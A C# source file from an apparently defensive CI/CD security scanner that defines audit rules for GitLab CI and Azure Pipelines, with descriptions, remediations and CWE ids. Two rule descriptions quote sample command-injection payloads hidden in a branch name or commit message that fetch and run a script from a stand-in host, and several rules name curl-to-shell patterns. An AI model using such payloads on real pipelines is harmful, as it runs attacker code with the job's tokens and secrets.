using Rampart.Core.Findings;
using Rampart.Core.Rules;

namespace Rampart.Pipeline;

/// <summary>
/// The rules of the GitLab CI audits (RMP-P060..P069) and the Azure Pipelines audits
/// (RMP-P070..P079), in one place so ids are never reused.
/// </summary>
public static class CiRules
{
    public static Rule GitLabRemoteIncludeWithoutIntegrity { get; } = new()
    {
        Id = RuleId.Parse("RMP-P060"),
        Name = "gitlab-remote-include-without-integrity",
        Title = "A GitLab remote include is fetched without an integrity hash",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "include: remote downloads CI configuration from a URL each time a pipeline starts and merges it into the pipeline. Whoever controls that URL (its owner, anyone who compromises it, or its next owner after the domain lapses) decides which jobs and scripts run, with this project's CI/CD variables and tokens.",
        Remediation = "Add integrity: 'sha256-<base64 hash>' to the include, so GitLab refuses content that changed; or copy the file into the repository and use include: local.",
        Cwe = [829, 494],
    };

    public static Rule GitLabIncludeUnpinnedRef { get; } = new()
    {
        Id = RuleId.Parse("RMP-P061"),
        Name = "gitlab-include-unpinned-ref",
        Title = "A GitLab project or component include follows a branch instead of a commit or release",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.Medium,
        Description = "include: project without ref: (or with a branch name) and a component at ~latest, a branch or a partial version take whatever that project holds when the pipeline starts. Anyone who can push to the other project changes what runs in this one, with its variables and tokens.",
        Remediation = "Pin ref: to a full commit SHA or a release tag (ref: v1.4.2), and components to a full version or SHA (@1.4.2); update the pin deliberately.",
        Cwe = [829],
    };

    public static Rule GitLabUnpinnedImage { get; } = new()
    {
        Id = RuleId.Parse("RMP-P062"),
        Name = "gitlab-unpinned-image",
        Title = "A GitLab job image or service is untagged or uses :latest",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Description = "An image: or services: entry without a tag, or with :latest, runs whatever the publisher pushed last. A compromised or simply changed image runs in the job with its variables and token, and a pipeline that passed yesterday can fail or behave differently today.",
        Remediation = "Pin the image to a version tag and preferably a digest: image: node:22.11-alpine@sha256:…; let Renovate propose updates.",
        Cwe = [1357],
    };

    public static Rule GitLabRemoteScriptPipedToShell { get; } = new()
    {
        Id = RuleId.Parse("RMP-P063"),
        Name = "gitlab-remote-script-piped-to-shell",
        Title = "A GitLab job script downloads code and pipes it straight into a shell",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "curl … | sh in script:, before_script: or after_script: runs whatever the server returns at that moment, with no integrity check, with the job's CI_JOB_TOKEN and variables.",
        Remediation = "Download to a file, check it against a checksum kept in the repository (sha256sum -c), then run it; better, use an image that already contains the tool.",
        Cwe = [494],
    };

    public static Rule GitLabDebugTraceEnabled { get; } = new()
    {
        Id = RuleId.Parse("RMP-P064"),
        Name = "gitlab-debug-trace-enabled",
        Title = "CI_DEBUG_TRACE or CI_DEBUG_SERVICES is set to true",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "With CI_DEBUG_TRACE the runner prints every shell command after expansion, and with CI_DEBUG_SERVICES the services' output; masked variables are printed in clear text. Everyone who can read the job logs (every developer, or everyone for a public project) can read every secret of the job.",
        Remediation = "Remove the variable from .gitlab-ci.yml. To debug once, set it for a single manual run, then delete the job log.",
        Cwe = [532],
    };

    public static Rule GitLabUntrustedVariableInScript { get; } = new()
    {
        Id = RuleId.Parse("RMP-P065"),
        Name = "gitlab-untrusted-variable-in-script",
        Title = "A GitLab script re-evaluates or word-splits a commit message, title or branch name",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.Medium,
        Description = "Commit messages, merge request titles and descriptions and branch names are chosen by whoever pushes or opens the merge request. Expanded inside eval or sh -c, the text is parsed as shell code, so a branch named a$(curl${IFS}evil.sh|sh) runs; expanded unquoted, free text is split into extra arguments of the command.",
        Remediation = "Never pass these variables to eval or sh -c; quote them (\"$CI_COMMIT_TITLE\") and give them to commands as data, after a -- where the command accepts it.",
        Cwe = [78],
    };

    public static Rule GitLabLiteralSecretInVariables { get; } = new()
    {
        Id = RuleId.Parse("RMP-P066"),
        Name = "gitlab-literal-secret-in-variables",
        Title = "A GitLab variables: entry holds a literal secret",
        Category = FindingCategory.Secret,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Medium,
        Description = "A variable whose name says password, secret, token or key gets a literal value in .gitlab-ci.yml. The file is committed, so the secret is readable by everyone with access to the repository and stays in its history; variables written in the file are never masked in job logs.",
        Remediation = "Remove the value, rotate the secret, and define it as a masked (and protected) CI/CD variable in the project or group settings, or fetch it from a vault with id_tokens.",
        Cwe = [798],
    };

    public static Rule AzureUntrustedVariableInScript { get; } = new()
    {
        Id = RuleId.Parse("RMP-P070"),
        Name = "azure-untrusted-variable-in-script",
        Title = "An Azure Pipelines script expands a branch name or commit message with macro syntax",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "Azure replaces $(Build.SourceBranchName), $(Build.SourceVersionMessage), $(System.PullRequest.SourceBranch) and similar macros in the script's text before the shell reads it. Whoever names the branch or writes the commit message (including the author of a pull request) decides part of the script: a\";curl evil.sh|sh;\" runs with the job's access token and variables.",
        Remediation = "Map the value to an environment variable of the step (env: BRANCH: $(Build.SourceBranchName)) and use \"$BRANCH\" in bash or $env:BRANCH in PowerShell, so it stays data.",
        Cwe = [94],
    };

    public static Rule AzureUnpinnedImage { get; } = new()
    {
        Id = RuleId.Parse("RMP-P071"),
        Name = "azure-unpinned-image",
        Title = "An Azure Pipelines vmImage or container image follows latest",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Medium,
        DefaultConfidence = Confidence.High,
        Description = "vmImage: ubuntu-latest (or windows-latest, macOS-latest) is a moving label that Microsoft points at a new OS version with new tool versions, and a container image without a tag or with :latest is whatever its publisher pushed last. Builds change without a change in the repository; a compromised container image runs with the job's token.",
        Remediation = "Name the hosted image's version (vmImage: ubuntu-24.04) and pin container images to a version tag and preferably a digest (node:22.11-alpine@sha256:…).",
        Cwe = [1357],
    };

    public static Rule AzureSystemDebugEnabled { get; } = new()
    {
        Id = RuleId.Parse("RMP-P072"),
        Name = "azure-system-debug-enabled",
        Title = "system.debug is set to true in the pipeline's variables",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "system.debug: true turns on diagnostic logging for every run: tasks print their inputs, environment and the commands they run, and secrets that reach the log in a form Azure does not recognise (encoded, split, transformed) are no longer hidden. Everyone who can read the pipeline's logs can read them.",
        Remediation = "Remove system.debug from the YAML; when needed, enable it for one run with 'Enable system diagnostics' in the Run pipeline dialog.",
        Cwe = [532],
    };

    public static Rule AzureLiteralSecretInVariables { get; } = new()
    {
        Id = RuleId.Parse("RMP-P073"),
        Name = "azure-literal-secret-in-variables",
        Title = "An Azure Pipelines variables: entry holds a literal secret",
        Category = FindingCategory.Secret,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.Medium,
        Description = "A variable whose name says password, secret, token or key gets a literal value in the pipeline YAML. Variables defined in YAML are never secret variables: the value is in the repository and its history, and Azure does not mask it in logs.",
        Remediation = "Remove the value, rotate the secret, and define it as a secret variable in the pipeline settings, a variable group or Azure Key Vault; map it into the steps that need it with env:.",
        Cwe = [798],
    };

    public static Rule AzureCheckoutPersistsCredentials { get; } = new()
    {
        Id = RuleId.Parse("RMP-P074"),
        Name = "azure-checkout-persists-credentials",
        Title = "An Azure Pipelines checkout keeps the access token in the repository's git config",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.Low,
        DefaultConfidence = Confidence.High,
        Description = "checkout with persistCredentials: true leaves the job's System.AccessToken in .git/config after the checkout. Every later step, every tool it runs and any artifact that includes the working directory can read the token and use it against the organisation's repositories and APIs.",
        Remediation = "Drop persistCredentials: true; give the token only to the step that pushes, through env: (SYSTEM_ACCESSTOKEN: $(System.AccessToken)).",
        Cwe = [522],
    };

    public static Rule AzureRemoteScriptPipedToShell { get; } = new()
    {
        Id = RuleId.Parse("RMP-P075"),
        Name = "azure-remote-script-piped-to-shell",
        Title = "An Azure Pipelines script downloads code and pipes it straight into a shell",
        Category = FindingCategory.Pipeline,
        DefaultSeverity = Severity.High,
        DefaultConfidence = Confidence.High,
        Description = "curl … | sh, bash <(curl …) or PowerShell's iwr … | iex in a script step runs whatever the server returns at that moment, with no integrity check, with the job's access token and variables.",
        Remediation = "Download to a file, check it against a checksum kept in the repository (sha256sum -c, Get-FileHash), then run it; better, use a task or a package manager that verifies signatures.",
        Cwe = [494],
    };

    /// <summary>The rules of <see cref="Ci.GitLab.GitLabCiDetector"/>, in id order.</summary>
    public static IReadOnlyList<Rule> GitLab { get; } =
    [
        GitLabRemoteIncludeWithoutIntegrity, GitLabIncludeUnpinnedRef, GitLabUnpinnedImage, GitLabRemoteScriptPipedToShell,
        GitLabDebugTraceEnabled, GitLabUntrustedVariableInScript, GitLabLiteralSecretInVariables,
    ];

    /// <summary>The rules of <see cref="Ci.Azure.AzurePipelinesDetector"/>, in id order.</summary>
    public static IReadOnlyList<Rule> Azure { get; } =
    [
        AzureUntrustedVariableInScript, AzureUnpinnedImage, AzureSystemDebugEnabled, AzureLiteralSecretInVariables,
        AzureCheckoutPersistsCredentials, AzureRemoteScriptPipedToShell,
    ];
}
